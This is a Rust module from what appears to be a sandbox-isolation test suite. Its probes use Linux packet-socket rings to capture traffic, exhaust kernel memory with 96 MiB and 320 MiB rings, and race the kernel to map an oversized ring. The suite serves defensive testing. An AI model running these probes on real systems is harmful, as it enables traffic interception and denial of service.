//! Rings that packets are received in, or sent from.

use std::sync::atomic::{AtomicPtr, Ordering};

use crate::{
    attacker::{Attacker, SOL_PACKET, contains},
    race::{Raced, race},
    row::{Outcome, Seen},
    sys::native,
    world::{BODY, CW0},
};

const VERSION: u64 = 10;
const RX_RING: u64 = 5;

/// `struct tpacket_req`.
fn ring_of(block: u32, blocks: u32, frame: u32) -> Vec<u8> {
    let words = [block, blocks, frame, block / frame * blocks];
    words.iter().flat_map(|word| word.to_ne_bytes()).collect()
}

/// With frames that are too small, whole packets go to the queue.
pub(super) fn copy_threshold(a: &mut Attacker) -> Outcome {
    let socket = a.filtered()?;
    let tried = a.option(socket, SOL_PACKET, 7, &1500_u32.to_ne_bytes());
    a.set(socket, SOL_PACKET, RX_RING, &ring_of(4096, 1, 64))?;
    a.after(tried, socket, BODY)
}

/// Parts of a ring that have `BODY` in them, whatever their headers say.
fn by_ring_of(a: &mut Attacker, version: u32) -> Outcome {
    const FRAME: usize = 2048;
    const FRAMES: usize = 128;
    const BLOCKS: u32 = 16;
    const MILLISECONDS: u32 = 10;
    let socket = a.capture()?;
    a.set(socket, SOL_PACKET, VERSION, &version.to_ne_bytes())?;
    let size = FRAME * FRAMES;
    let block = u32::try_from(size).unwrap_or(0) / BLOCKS;
    let mut request = ring_of(block, BLOCKS, 2048);
    if version == 2 {
        // A block is handed over after so long; nothing private, no features.
        let words = [MILLISECONDS, 0, 0];
        request.extend(words.iter().flat_map(|word| word.to_ne_bytes()));
    }
    a.set(socket, SOL_PACKET, RX_RING, &request)?;
    a.bind(socket, CW0, 20)?;
    let at = native(libc::SYS_mmap, [0, size as u64, 3, 1, socket, 0])?;
    let frames = std::ptr::with_exposed_provenance::<u8>(usize::try_from(at).unwrap_or(0));
    let mut counted = [false; FRAMES];
    a.hear(BODY, |_| {
        for (number, counted) in counted.iter_mut().enumerate() {
            let mut frame = vec![0; FRAME];
            let from = frames.wrapping_add(number * FRAME);
            // SAFETY: a part of the mapping, which the kernel alone writes to.
            unsafe { std::ptr::copy_nonoverlapping(from, frame.as_mut_ptr(), FRAME) };
            if !*counted && contains(&frame, BODY) {
                *counted = true;
                return Ok(frame);
            }
        }
        Err(libc::EAGAIN)
    })
}

pub(super) fn ring_v1(a: &mut Attacker) -> Outcome {
    by_ring_of(a, 0)
}

pub(super) fn ring_v2(a: &mut Attacker) -> Outcome {
    by_ring_of(a, 1)
}

pub(super) fn ring_v3(a: &mut Attacker) -> Outcome {
    by_ring_of(a, 2)
}

pub(super) fn send_ring(a: &mut Attacker) -> Outcome {
    let socket = a.filtered()?;
    a.option(socket, SOL_PACKET, 13, &ring_of(4096, 1, 2048))?;
    Seen::won("a ring to send with")
}

pub(super) fn huge_ring(a: &mut Attacker) -> Outcome {
    let socket = a.capture()?;
    a.set(socket, SOL_PACKET, RX_RING, &ring_of(1 << 20, 96, 2048))?;
    Seen::won("96 MiB of the kernel's memory")
}

pub(super) fn many_rings(a: &mut Attacker) -> Outcome {
    for _ in 0..10 {
        let socket = a.capture()?;
        a.set(socket, SOL_PACKET, RX_RING, &ring_of(1 << 20, 32, 2048))?;
    }
    Seen::won("320 MiB of the kernel's memory")
}

/// Another thread changes the number of blocks, from one to many. How large a ring has become is what
/// can be mapped of it.
pub(super) fn ring_race(a: &mut Attacker) -> Outcome {
    const BLOCK: u32 = 1 << 20;
    const FRAMES_OF_BLOCK: u32 = BLOCK / 2048;
    const MANY: u32 = 96;
    const SIZE: u64 = BLOCK as u64 * MANY as u64;
    // Without anybody who reads before the kernel does, each try has many blocks in one of four.
    const TRIES: usize = 100;
    let socket = a.capture()?;
    let request = a.memory.put(&ring_of(BLOCK, 1, 2048));
    let none = a.memory.zeros(16);
    let place = usize::try_from(request).unwrap_or(0);
    let [blocks, frames] =
        [4, 12].map(|at| AtomicPtr::new(std::ptr::with_exposed_provenance_mut::<u32>(place + at)));
    let change = |step: usize| {
        let [blocks, frames] = [&blocks, &frames].map(|at| at.load(Ordering::Relaxed));
        let count = if step.is_multiple_of(2) { MANY } else { 1 };
        // SAFETY: within the request, which only the kernel and the agent read.
        unsafe { std::ptr::write_volatile(blocks, count) };
        // SAFETY: as above.
        unsafe { std::ptr::write_volatile(frames, count * FRAMES_OF_BLOCK) };
    };
    let (mut made, mut short_of_memory) = (0, false);
    let raced = race(TRIES, change, || {
        match a.set_at(socket, SOL_PACKET, RX_RING, request, 16) {
            Ok(_) => made += 1,
            Err(errno) => {
                short_of_memory |= errno == libc::ENOMEM;
                return false;
            }
        }
        let large = native(libc::SYS_mmap, [0, SIZE, 3, 1, socket, 0]).is_ok();
        if !large {
            let _ = a.set_at(socket, SOL_PACKET, RX_RING, none, 16);
        }
        large
    });
    match raced {
        Raced::Won => Seen::won("96 MiB of the kernel's memory"),
        Raced::OutOfTime => Seen::broken("the race took too long"),
        // A host without so much memory proves nothing.
        Raced::Lost if !a.world.governed && short_of_memory => Err(libc::ENOMEM),
        Raced::Lost if made == 0 => Seen::broken("no ring was made at all"),
        Raced::Lost => Seen::nothing("no ring became too large"),
    }
}
